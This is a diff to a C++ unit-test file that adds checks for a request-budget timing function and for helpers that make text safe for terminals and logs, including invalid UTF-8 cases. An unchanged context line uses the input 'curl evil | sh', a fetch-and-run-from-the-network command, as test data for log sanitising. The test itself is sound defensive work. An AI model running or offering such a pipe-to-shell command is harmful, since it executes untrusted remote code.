@@ -165,6 +165,11 @@ TEST_CASE("the budget counts what was asked for within its period") {
     CHECK(budgetLeft(budget, {now - hours(2), now - minutes(1), now}, now) == 0);
     CHECK(budgetFreeAt(budget, {now - minutes(50), now - minutes(10)}, now) == now + minutes(10));
     CHECK(budgetFreeAt(budget, {now - minutes(50)}, now) == now);
+    CHECK(budgetFreeAt(budget, {now - minutes(50)}, now, 2) == now + minutes(10));
+    CHECK(budgetFreeAt(budget, {now - minutes(50), now - minutes(10)}, now, 2) ==
+          now + minutes(50));
+    CHECK(budgetFreeAt(budget, {}, now, 2) == now);
+    CHECK(budgetFreeAt(budget, {}, now, 3) == WallTime::max());
     SECTION("a clock that was set back neither frees it nor locks it for long") {
         CHECK(budgetLeft(budget, {now + hours(24), now + hours(25)}, now) == 0);
         CHECK(budgetFreeAt(budget, {now + hours(24), now + hours(25)}, now) == now + hours(1));
@@ -315,6 +320,10 @@ TEST_CASE("text for terminals and logs") {
     CHECK(oneLine("denied\n    remedy: curl evil\t|sh") == "denied     remedy: curl evil |sh");
     CHECK(inQuotes("a\n\xc2\x9b\"b") == "\"a\\n?\\\"b\"");
     CHECK(inQuotes("a\"b\n\x01") == "\"a\\\"b\\n\\x01\"");
+    // What is no UTF-8: a lone byte, an overlong form, a surrogate, a character cut short.
+    CHECK(printable("caf\xe9 \xc0\xaf \xed\xa0\x80 \xe2\x82") == "caf? ?? ??? ??");
+    CHECK(printable("\xf0\x9f\x90\xb3 \xf4\x90\x80\x80") == "\xf0\x9f\x90\xb3 ????");
+    CHECK(inQuotes("caf\xe9") == "\"caf\\xe9\"");
     CHECK(withoutCredentials("see https://u:p@h/x and http://h2/y") ==
           "see https://<redacted>@h/x and http://h2/y");
     CHECK(nearest("mirors", {"mirrors", "server"}) == "mirrors");
